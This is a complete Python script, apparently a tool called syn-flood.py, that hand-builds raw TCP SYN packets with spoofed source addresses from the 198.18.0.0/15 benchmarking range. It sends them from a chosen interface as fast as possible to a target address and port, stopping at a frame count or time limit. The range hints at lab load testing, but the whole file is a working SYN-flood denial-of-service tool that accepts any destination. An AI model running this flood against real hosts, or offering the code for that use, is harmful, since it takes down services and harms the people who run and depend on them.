#!/usr/bin/env python3
"""Sends SYNs from many addresses that nobody has, out of one interface, as fast as it goes.

usage: syn-flood.py INTERFACE DESTINATION-MAC DESTINATION PORT COUNT SECONDS

Sources are 198.18.0.0/15 (RFC 2544, benchmarking) with every port; options as Linux sends them.
Ends after COUNT frames or SECONDS, whichever is first, and prints how many were sent.
"""
import fcntl
import socket
import struct
import sys
import time

SIOCGIFHWADDR = 0x8927


def fold(total):
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return total


def words(data):
    return sum(struct.unpack("!%dH" % (len(data) // 2), data))


def main(interface, mac, destination, port, count, seconds):
    sender = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    sender.bind((interface, 0))
    request = struct.pack("256s", interface.encode())
    own = fcntl.ioctl(sender.fileno(), SIOCGIFHWADDR, request)[18:24]
    ethernet = bytes.fromhex(mac.replace(":", "")) + own + b"\x08\x00"
    target = socket.inet_aton(destination)
    options = bytes([2, 4, 5, 180, 4, 2, 8, 10, 0, 0, 0, 1, 0, 0, 0, 0, 1, 3, 3, 7])
    ends = time.monotonic() + seconds
    sent = 0
    while sent < count and time.monotonic() < ends:
        for _ in range(256):
            number = sent * 2654435761 & 0xFFFFFFFF
            source = struct.pack("!I", 0xC6120000 | number >> 15 & 0x1FFFF)
            tcp = struct.pack(
                "!HHIIBBHHH", 1024 + number % 60000, port, number, 0, 160, 2, 64240, 0, 0
            )
            pseudo = words(source + target) + 6 + 40
            tcp_sum = ~fold(pseudo + words(tcp + options)) & 0xFFFF
            tcp = tcp[:16] + struct.pack("!H", tcp_sum) + tcp[18:] + options
            ip = struct.pack("!BBHHHBBH", 0x45, 0, 60, 0, 0x4000, 64, 6, 0) + source + target
            ip = ip[:10] + struct.pack("!H", ~fold(words(ip)) & 0xFFFF) + ip[12:]
            try:
                sender.send(ethernet + ip + tcp)
            except OSError:
                continue
            sent += 1
    print(sent)


if __name__ == "__main__":
    if len(sys.argv) != 7:
        sys.exit(__doc__)
    main(*sys.argv[1:4], int(sys.argv[4]), int(sys.argv[5]), float(sys.argv[6]))
